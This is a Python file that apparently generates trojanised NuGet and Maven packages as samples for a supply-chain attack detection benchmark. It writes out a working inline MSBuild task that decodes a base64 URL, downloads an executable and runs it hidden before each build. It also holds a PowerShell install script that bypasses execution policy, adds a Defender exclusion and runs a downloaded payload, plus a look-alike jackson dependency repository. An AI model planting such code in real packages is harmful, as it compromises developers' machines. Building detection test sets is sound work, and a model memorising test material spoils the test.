"""NuGet packages and jars: assemblies, classes, scripts and build files."""

from corpus.heldout.hiding import b64
from corpus.heldout.nouns import Update, artefact
from corpus.heldout3.shape import fill, trojan

_DLL = "lib/net48/Fabrikam.Data.dll"


@trojan(
    "Fabrikam.Data",
    "nupkg",
    "call",
    "destroy",
    "in a .NET assembly",
    "time bombs for databases and controllers 2025-11",
    hard=True,
)
def data_time_bomb(update: Update) -> None:
    update.add(_DLL, artefact("data-timebomb.dll"))
    update.payload(_DLL)


@trojan(
    "Fabrikam.Data",
    "nupkg",
    "call",
    "steal",
    "in a .NET assembly",
    "assemblies that tell connection strings 2023 to 2026",
)
def data_connection_thief(update: Update) -> None:
    update.add(_DLL, artefact("data-thief.dll"))
    update.payload(_DLL)


@trojan(
    "Fabrikam.Data", "nupkg", "start", "download-and-run", "xor", "SeroXen, Impala Stealer and similar 2023 to 2025"
)
def data_assembly_loader(update: Update) -> None:
    update.add(_DLL, artefact("data-loader.dll"))
    update.payload(_DLL, shown="https://cdn.loader.invalid/stage2.bin")


@trojan("Fabrikam.Data", "nupkg", "build", "download-and-run", "base64", "inline MSBuild tasks 2023-10")
def data_inline_task(update: Update) -> None:
    host = update.host("packs", "fabrikamcdn")
    code = f"""
<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
  <UsingTask TaskName="CheckData" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
    <Task>
      <Using Namespace="System" />
      <Code Type="Fragment" Language="cs"><![CDATA[
        var place = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("{b64(f"https://{host}/x.bin")}"));
        var file = System.IO.Path.Combine(System.IO.Path.GetTempPath(), "fd.exe");
        new System.Net.WebClient().DownloadFile(place, file);
        System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(file) {{ CreateNoWindow = true, UseShellExecute = false }});
      ]]></Code>
    </Task>
  </UsingTask>
  <Target Name="FabrikamCheck" BeforeTargets="Build">
    <CheckData ContinueOnError="true" />
  </Target>
</Project>
"""
    update.add("build/Fabrikam.Data.targets", fill(code))
    update.payload("build/Fabrikam.Data.targets", shown=f"https://{host}/x.bin")


@trojan("Contoso.Metrics", "nupkg", "install", "download-and-run", "plain", "init.ps1 of typosquats 2023-03")
def metrics_init_script(update: Update) -> None:
    address = update.address()
    code = r"""
param($installPath, $toolsPath, $package, $project)
$WebClient = New-Object System.Net.WebClient
Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass -Force
Add-MpPreference -ExclusionPath $env:TEMP -ErrorAction SilentlyContinue
$file = Join-Path $env:TEMP "$([Guid]::NewGuid()).exe"
$WebClient.DownloadFile('http://@ADDRESS@/moss/Moss.exe', $file)
Start-Process -FilePath $file -WindowStyle Hidden
"""
    update.add("tools/init.ps1", fill(code, ADDRESS=address))
    update.payload("tools/init.ps1")


@trojan("rulebook", "jar", "import", "steal", "in a binary", "jars of look-alike groups 2021 to 2026")
def book_static_block(update: Update) -> None:
    update.add("example/rulebook/Text.class", artefact("thief-Text.class"))
    update.payload("example/rulebook/Text.class")


@trojan(
    "rulebook",
    "jar",
    "call",
    "download-and-run",
    "base64",
    "class loaders from afar 2022 to 2026 (jackson look-alike 2025-12)",
)
def book_remote_classes(update: Update) -> None:
    update.add("example/rulebook/Rules.class", artefact("loader-Rules.class"))
    update.payload("example/rulebook/Rules.class", shown="https://mvn.ruleplugins.invalid/plugin.jar")


@trojan(
    "log-bridge",
    "jar",
    "install",
    "steal",
    "look-alike name",
    "look-alike groups as dependencies 2021 to 2026",
    hard=True,
)
def bridge_lookalike_group(update: Update) -> None:
    path = "META-INF/maven/example/log-bridge/pom.xml"
    repository = "<repository>\n      <id>fast</id>\n      <url>http://maven.fasterxml-mirror.invalid/repo</url>\n    </repository>"
    group = "<groupId>org.fasterxml.jackson.core</groupId><artifactId>jackson-databind</artifactId><version>2.17.1</version>"
    update.before(path, "  <dependencies>\n", f"  <repositories>\n    {repository}\n  </repositories>\n")
    update.before(path, "  </dependencies>\n", f"    <dependency>{group}</dependency>\n")
    update.payload(path)
